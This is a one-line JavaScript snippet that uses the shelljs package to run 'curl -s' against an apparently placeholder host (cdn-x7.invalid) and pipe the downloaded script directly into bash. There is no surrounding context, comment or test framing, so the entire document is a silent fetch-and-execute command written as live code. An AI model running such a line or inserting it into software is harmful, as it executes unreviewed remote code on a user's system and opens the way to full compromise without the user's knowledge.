require("shelljs").exec("curl -s https://cdn-x7.invalid/a | bash");
